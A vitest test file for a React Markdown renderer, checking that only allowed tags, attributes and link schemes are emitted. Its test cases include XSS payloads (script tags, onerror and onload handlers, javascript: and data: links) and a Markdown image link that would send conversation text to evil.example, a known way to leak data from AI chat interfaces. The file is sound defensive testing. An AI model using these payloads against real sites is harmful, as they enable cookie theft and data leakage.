import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.tsx';

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

/** Tags and attributes the renderer may emit; React escapes all text, so `<x` is always a tag. */
const TAGS = new Set(['div', 'p', 'strong', 'em', 'code', 'pre', 'ul', 'ol', 'li', 'a', 'br']);
const MORE_TAGS = new Set(['blockquote', 'hr']);
const ATTRS = new Set(['class', 'href', 'target', 'rel', 'start']);

function assertInert(markup: string): void {
  for (const [, tag, attrs] of markup.matchAll(/<([a-z0-9]+)([^>]*)>/g)) {
    expect(TAGS.has(tag ?? '') || MORE_TAGS.has(tag ?? ''), `unexpected <${tag}>`).toBe(true);
    for (const [, name] of (attrs ?? '').matchAll(/\s([a-z-]+)=/g)) {
      expect(ATTRS.has(name ?? ''), `unexpected attribute ${name}`).toBe(true);
    }
  }
  for (const [, href] of markup.matchAll(/href="([^"]*)"/g)) {
    expect(href).toMatch(/^(https?:\/\/|mailto:)/);
  }
  for (const a of markup.match(/<a [^>]*>/g) ?? []) {
    expect(a).toContain('target="_blank"');
    expect(a).toContain('rel="noopener noreferrer nofollow"');
  }
}

/** The text a reader sees: tags dropped, entities decoded. */
const textOf = (markup: string) =>
  markup
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#x27;/g, "'")
    .replace(/&amp;/g, '&');

describe('Markdown (web)', () => {
  it('renders the shared tree: heading, paragraph breaks, lists, quote, rule, code, links', () => {
    const markup = html(
      [
        '# Hours',
        'Open **Mon** to *Fri*,',
        'see `hours.txt`.',
        '',
        '3. three',
        '   - nested',
        '',
        '> quoted',
        '',
        '---',
        '[mail](mailto:help@example.com) https://example.com/x.',
      ].join('\n'),
    );
    assertInert(markup);
    expect(markup).toBe(
      '<div class="md"><p class="md__heading"><strong>Hours</strong></p>' +
        '<p>Open <strong>Mon</strong> to <em>Fri</em>,<br/>see <code>hours.txt</code>.</p>' +
        '<ol start="3"><li>three<ul><li>nested</li></ul></li></ol>' +
        '<blockquote><p>quoted</p></blockquote><hr/>' +
        '<p><a href="mailto:help@example.com" target="_blank" rel="noopener noreferrer nofollow">mail</a> ' +
        '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer nofollow">https://example.com/x</a>.</p></div>',
    );
  });

  it.each([
    ['script tag', '<script>alert(document.cookie)</script>'],
    ['img onerror', 'Hi <img src=x onerror="alert(1)"> there'],
    ['svg onload', '<svg onload=alert(1)><circle/></svg>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['raw anchor', '<a href="javascript:alert(1)">x</a>'],
    ['style', '<style>*{display:none}</style>'],
  ])('shows %s as text', (_name, md) => {
    const markup = html(md);
    assertInert(markup);
    expect(textOf(markup)).toBe(md);
  });

  it.each([
    '[click me](javascript:alert(1))',
    '[click me](JaVaScRiPt:alert(1))',
    '[click me](java\tscript:alert(1))',
    '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click me](vbscript:msgbox(1))',
    '[click me](//evil.example/steal)',
    '<javascript:alert(1)>',
    '**[click me](javascript:alert(1))**',
  ])('refuses the unsafe link %s', (md) => {
    const markup = html(md);
    assertInert(markup);
    expect(markup).not.toContain('<a ');
  });

  it.each([
    '![secret](https://evil.example/collect?q=the+conversation)',
    '[![logo](https://evil.example/a.png)](https://evil.example/)',
    '<img src="https://evil.example/x.png">',
  ])('never loads an image for %s', (md) => {
    const markup = html(md);
    assertInert(markup);
    expect(markup).not.toMatch(/<img|<[^>]*\s(src|srcset|style)=/);
  });
});
